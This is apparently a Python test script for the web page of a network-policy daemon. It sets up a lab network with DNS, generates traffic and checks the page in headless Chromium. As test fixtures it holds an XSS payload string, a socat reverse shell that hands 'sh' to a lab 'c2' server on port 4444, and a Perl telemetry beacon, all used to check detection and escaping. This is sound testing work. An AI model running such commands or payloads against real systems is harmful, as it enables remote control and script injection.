#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The page in a real browser (headless Chromium), of a real egretd that watches real traffic: web/test/page.mjs says what is looked at.

usage: page.py [--shots FOLDER]    with --shots: pictures of the page into FOLDER, and no tests
"""
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading

import lab
from lab import S4

CASES = lab.golden.Cases()
NPM = os.path.join(lab.BUILD, "src", "web", "page_assets.S.built", "npm")
CHROMIUM = "chromium-headless-shell"
# Names of the lab, each with an address of its own: what is told of one is never said of another.
NAMES = {name: f"10.77.0.{10 + i}" for i, name in enumerate((
    "www.shop.example", "api.shop.example", "mirror.deb.example", "git.forge.example", "backup.storage.example",
    "stats.vendor.example"))}
POLICY = f"""\
# what this host may say to whom
resolvers {S4}
segment servers = 10.77.0.8/29
price servers = 0.9 USD/MB
budget web = 5 USD/month
app web = "/usr/bin/curl", "/usr/bin/wget"

allow app web to *.shop.example, mirror.deb.example port 80, 443  as "the web tools fetch"
allow app "/usr/bin/python3*" to backup.storage.example port 7001  quota 200gb/month  as "the nightly backup"
allow app "/usr/lib/git-core/*" to git.forge.example port 443
deny  to *.vendor.example  alert high "telemetry"  as "nobody asked for it"
default deny
"""
HOSTILE = "<img src=x onerror=document.title=1>"


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Traffic:
    """Programs that fetch, upload and talk, one after the other, until stop()."""

    UPLOAD = "import socket\ns=socket.create_connection(('%s',7001)); s.sendall(b'x'*%d)"
    TALK = "import socket,time\ns=socket.create_connection(('%s',7003))\nwhile True:\n s.sendall(b'y'*20000); s.recv(99999); time.sleep(.4)"
    BEACON = "use IO::Socket; my $s=IO::Socket::INET->new('stats.vendor.example:80'); print $s \"POST /t HTTP/1.0\\r\\n\\r\\n\"; <$s>"

    def __init__(self, n):
        self.n, self.over = n, threading.Event()
        n.start("/usr/bin/python3", "-uc", self.TALK % S4, HOSTILE, ns=n.client, watched=True)
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def commands(self, i):
        size = "big" if i % 3 == 0 else ""
        yield "curl", "-sk", "-o", "/dev/null", "https://www.shop.example/" + size
        yield "wget", "-qO", "/dev/null", "--no-check-certificate", "https://mirror.deb.example/" + size
        yield "curl", "-sk", "-o", "/dev/null", "https://api.shop.example/", "--data-binary", f"@{self.n.tmp}/body"
        yield "/usr/bin/python3", "-c", self.UPLOAD % ("backup.storage.example", (i % 4 + 1) * 250_000)
        yield "env", "GIT_SSL_NO_VERIFY=1", "git", "ls-remote", "https://git.forge.example/repo.git"
        yield "perl", "-e", self.BEACON

    def run(self):
        i = 0
        while not self.over.is_set():
            i += 1
            for argv in self.commands(i):
                if self.over.wait(0.15):
                    return
                self.n.run(*argv, check=False)

    def stop(self):
        self.over.set()
        self.thread.join(60)


def start_daemon(n, conf=""):
    port = free_port()
    d = n.daemon(conf=f"page 127.0.0.1:{port}\nstore sqlite\n{conf}")
    d.page = f"http://127.0.0.1:{port}"
    return d


def many_flows(n, count):
    """So many UDP flows, each with a port of its own."""
    n.python("import socket,sys\nfor i in range(int(sys.argv[1])):\n s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); "
             f"s.sendto(b'hello',('{S4}',7002)); s.close()", count)


def stranger(n):
    """A browser that runs as a user without rights: what starts it, and the folder it may write."""
    folder = tempfile.mkdtemp(prefix="nobody.", dir=n.tmp)
    shutil.chown(folder, 65534, 65534)
    path = os.path.join(n.tmp, "stranger")
    with open(path, "w", encoding="ascii") as f:
        f.write(f"#!/bin/sh\nexec setpriv --reuid=65534 --regid=65534 --clear-groups env HOME={folder} {shutil.which(CHROMIUM)} \"$@\"\n")
    os.chmod(path, 0o755)
    return path, folder


class Browser:
    """web/test/SCRIPT.mjs; what it asks for with "DO …" is done here, what it counted becomes cases."""

    def __init__(self, script, **env):
        self.child = subprocess.Popen(
            ["node", os.path.join(lab.SOURCE, "web", "test", script)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            text=True, env={**os.environ, "PAGE_NPM": NPM, "PAGE_CHROMIUM": shutil.which(CHROMIUM), **env})

    def run(self, deeds):
        last = "start"
        for line in self.child.stdout:
            word, _, rest = line.rstrip("\n").partition(" ")
            if word == "DO":
                self.child.stdin.write(f"{deeds[rest]() or ''}\n")
                self.child.stdin.flush()
            elif word in ("OK", "FAIL"):
                name, _, why = rest.partition("\t")
                CASES.check(name, word == "OK", why)
                last = name
            else:
                print(line, end="")
        CASES.check("the browser went through to the end", self.child.wait(20) == 0, f"ended after: {last}")


def names(n):
    """Answers for NAMES on the server's first address."""
    for address in NAMES.values():
        lab.must("ip", "-n", n.server, "addr", "add", address + "/24", "dev", "s0")
    n.start("dnsmasq", "-k", "-C", "/dev/null", "--no-resolv", "--no-hosts", "--log-facility=-", "--user=root",
            f"--pid-file={n.tmp}/dnsmasq.pid", "--bind-interfaces", "-i", "s0", "--local=/example/", "--local-ttl=60",
            *(f"--host-record={name},{address}" for name, address in NAMES.items()), ready=lambda _: n.listens("u", 53))


def prepare(n):
    names(n)
    n.nginx()
    n.echo(7003)
    n.sink(7001)
    n.sink(7002, udp=True)
    n.small_server("c2", 4444)
    with open(os.path.join(n.tmp, "body"), "wb") as f:
        f.write(os.urandom(300_000))
    policy = os.path.join(n.tmp, "policy.egret")
    with open(policy, "w", encoding="ascii") as f:
        f.write(POLICY)
    d = start_daemon(n, f'policy "{policy}" watch\n')
    traffic = Traffic(n)
    n.start("socat", f"TCP:{S4}:4444", "EXEC:sh", ns=n.client, watched=True)
    lab.wait_for("the finding", d.findings)
    return d, traffic


def tests(n):
    d, traffic = prepare(n)
    empty = start_daemon(n, f'cgroup "{n.make_cgroup(n.name + "e")[len(lab.cgroup2_mount()):]}"\n')
    many_flows(n, 3000)
    path, folder = stranger(n)
    browser = Browser("page.mjs", PAGE_URL=d.page, PAGE_EMPTY=empty.page, PAGE_STRANGER=path, PAGE_FOLDER=folder, PAGE_HOSTILE=HOSTILE)
    try:
        browser.run({
            "stop": d.stop, "start": d.start, "link": lambda: d.egret("page", "--change").stdout.strip(),
            "quiet": traffic.stop,
        })
    finally:
        traffic.stop()


def shots(n, folder):
    d, traffic = prepare(n)
    try:
        Browser("shots.mjs", PAGE_URL=d.page, PAGE_SHOTS=folder).run({})
    finally:
        traffic.stop()
    for name in sorted(os.listdir(folder)):
        if name.startswith("page-") and name.endswith(".png"):
            path = os.path.join(folder, name)
            subprocess.run(["pngquant", "--force", "--strip", "--speed", "1", "--output", path, path], check=True)
            print(f"{os.path.getsize(path):7d} {path}")


def main():
    if not os.path.isdir(os.path.join(NPM, "node_modules", "playwright-core")):
        CASES.skip("page", "the build has no page (node, npm or the npm registry was missing)")
        return CASES.end()
    lab.need(CASES, "node", CHROMIUM, "socat", "wget", "setpriv", "git", "perl", "dnsmasq")
    n = lab.Lab("pag")
    try:
        if sys.argv[1:2] == ["--shots"]:
            shots(n, os.path.realpath(sys.argv[2]))
        else:
            tests(n)
    except (RuntimeError, TimeoutError, subprocess.SubprocessError, OSError) as e:
        CASES.check("the page", False, repr(e))
    finally:
        n.close()
    return CASES.end()


sys.exit(main())
